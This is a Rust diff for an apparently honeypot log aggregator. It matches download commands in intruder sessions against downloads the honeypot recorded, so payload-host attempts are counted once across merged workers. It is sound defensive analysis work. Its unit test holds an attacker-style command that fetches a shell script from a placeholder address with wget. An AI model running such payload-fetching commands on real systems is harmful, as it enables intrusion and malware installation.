@@ -4,6 +4,7 @@
 //! command lines, payload hosts, minutes of the timeline), never with rows.
 //! Per-source lists are capped so one noisy scanner cannot grow without bound.
 
+use std::borrow::Cow;
 use std::hash::{BuildHasher, Hash, Hasher};
 use std::net::IpAddr;
 use std::sync::Arc;
@@ -14,6 +15,7 @@ use smallvec::SmallVec;
 use crate::command::{self, CommandFacts, marker};
 use crate::data::{self, CredLabel};
 use crate::event::{Event, EventKind};
+use crate::fetch;
 use crate::filter::Filters;
 use crate::ioc;
 use crate::time::Micros;
@@ -675,6 +677,10 @@ pub struct Aggregator {
     pub(crate) gap_sessions: Map<(IpAddr, u16), Vec<SessionState>>,
     pub(crate) payloads: Map<Box<str>, PayloadState>,
     pub(crate) downloads: Map<DownloadKey, u64>,
+    /// Per session key: the fetches its command lines asked for and the downloads
+    /// the honeypot recorded, matched once every worker's rows are merged
+    /// ([`Self::settle_fetches`]; see [`crate::fetch`]).
+    session_fetches: Map<u64, fetch::SessionFetches>,
     pub(crate) busybox_tokens: Map<Box<str>, u64>,
     /// Sessions per announced client version (at most [`MAX_CLIENT_VERSION`] bytes each).
     pub(crate) client_versions: Map<Box<str>, u64>,
@@ -1422,7 +1428,12 @@ impl Aggregator {
                 let slot = self.touch_source(ev, proto, warmed.slot);
                 self.timeline_add(ev.ts, 1);
                 let flags = self.command_line(ev, slot, line);
-                self.touch_session(ev, gap_secs, (0, flags), key);
+                let key = self.touch_session(ev, gap_secs, (0, flags), key);
+                if flags & sflag::DOWNLOAD != 0
+                    && let Some(key) = key
+                {
+                    self.commanded_fetches(key, line);
+                }
             }
             EventKind::Download { url } => self.recorded_download(ev, url, gap_secs, warmed),
             EventKind::Connect => {
@@ -1973,12 +1984,12 @@ impl Aggregator {
 
     fn recorded_download(&mut self, ev: &Event<'_>, url: &str, gap_secs: i64, warmed: Warmed) {
         let url = bounded(url);
-        let key = warmed.session_key;
         self.recorded_downloads += 1;
         let proto = self.protocol_of(ev);
         let slot = self.touch_source(ev, proto, warmed.slot);
+        let key = self.touch_session(ev, gap_secs, (0, sflag::DOWNLOAD), warmed.session_key);
         if let Some(d) = command::parse_url(url) {
-            self.payload(ev, &d, false);
+            self.hold_recorded(ev, key, &d);
             if let Some(state) = slot.and_then(|i| self.sources.state(i)) {
                 state.markers |= marker::DOWNLOAD;
                 if d.port == Some(4636) {
@@ -1999,7 +2010,63 @@ impl Aggregator {
                 }
             }
         }
-        self.touch_session(ev, gap_secs, (0, sflag::DOWNLOAD), key);
+    }
+
+    /// Notes the fetches of a command line of session `key` (see [`crate::fetch`]).
+    fn commanded_fetches(&mut self, key: u64, line: &str) {
+        let Some(info) = self
+            .commands
+            .get(bounded(line))
+            .and_then(|&i| self.command_stats.get(i as usize))
+            .map(|stats| Arc::clone(&stats.info))
+        else {
+            return;
+        };
+        let held = self.session_fetches.entry(key).or_default();
+        for d in info.facts.downloads.iter().filter(|d| !d.host.is_empty()) {
+            held.command(d);
+        }
+    }
+
+    /// Holds a recorded download of session `key` until [`Self::settle_fetches`];
+    /// counts it at once when it has no session or its session holds enough.
+    fn hold_recorded(&mut self, ev: &Event<'_>, key: Option<u64>, d: &command::Download) {
+        let recorded = fetch::Recorded {
+            ts: ev.ts,
+            src: ev.src,
+            download: d.clone(),
+        };
+        let unheld = match key {
+            Some(key) => self.session_fetches.entry(key).or_default().hold(recorded),
+            None => Some(recorded),
+        };
+        if let Some(r) = unheld {
+            self.count_recorded(r);
+        }
+    }
+
+    /// Counts a recorded download no command line accounts for.
+    fn count_recorded(&mut self, r: fetch::Recorded) {
+        let ev = Event {
+            ts: r.ts,
+            src: r.src,
+            src_port: None,
+            dst_port: None,
+            protocol: Cow::Borrowed(""),
+            session: None,
+            kind: EventKind::Connect,
+        };
+        self.payload(&ev, &r.download, false);
+    }
+
+    /// Counts the recorded downloads that no command line of their session asked
+    /// for (see [`crate::fetch`]); called once every worker's counts are merged.
+    pub(crate) fn settle_fetches(&mut self) {
+        for (_, held) in std::mem::take(&mut self.session_fetches) {
+            for r in held.settle() {
+                self.count_recorded(r);
+            }
+        }
     }
 
     /// The key of session `id` (of source `src`), see [`Self::sessions_per_source`].
@@ -2106,6 +2173,9 @@ impl Aggregator {
         add_counts(&mut self.busybox_tokens, other.busybox_tokens);
         add_counts(&mut self.client_versions, other.client_versions);
         add_counts(&mut self.hassh, other.hassh);
+        for (k, v) in other.session_fetches {
+            self.session_fetches.entry(k).or_default().merge(v);
+        }
         for (k, v) in other.payload_hashes {
             self.payload_hashes.entry(k).or_default().merge(v);
         }
@@ -2353,6 +2423,49 @@ mod tests {
             );
             assert_eq!(left.events, 0, "indicator records are not events");
         }
+    }
+
+    /// A session's command line and the honeypot's record of its fetch, read by two
+    /// workers in either order, count one payload-host attempt once merged.
+    #[test]
+    fn a_fetch_split_between_workers_counts_once() {
+        let event = |second: i64, kind: EventKind<'static>| Event {
+            ts: Some(second * 1_000_000),
+            src: Some(IpAddr::from([192, 0, 2, 9])),
+            src_port: None,
+            dst_port: None,
+            protocol: "ssh".into(),
+            session: Some("s1".into()),
+            kind,
+        };
+        let command = event(
+            1,
+            EventKind::Command {
+                line: "wget http://198.51.100.5/x.sh".into(),
+            },
+        );
+        let record = event(
+            2,
+            EventKind::Download {
+                url: "http://198.51.100.5/x.sh".into(),
+            },
+        );
+        let filters = Filters::default();
+        for (first, second) in [(&command, &record), (&record, &command)] {
+            let (mut one, mut other) = (Aggregator::new(600), Aggregator::new(600));
+            one.ingest(0, first, &filters);
+            other.ingest(0, second, &filters);
+            one.merge(other);
+            one.settle_fetches();
+            let attempts = one.payloads.get("198.51.100.5").map(|p| p.attempts);
+            assert_eq!(attempts, Some(1));
+            assert_eq!(one.recorded_downloads, 1);
+        }
+        let mut alone = Aggregator::new(600);
+        alone.ingest(0, &record, &filters);
+        alone.settle_fetches();
+        let attempts = alone.payloads.get("198.51.100.5").map(|p| p.attempts);
+        assert_eq!(attempts, Some(1), "a record no line asked for counts");
     }
 
     /// Client versions and HASSHes per source: the smallest ids, sorted, whatever
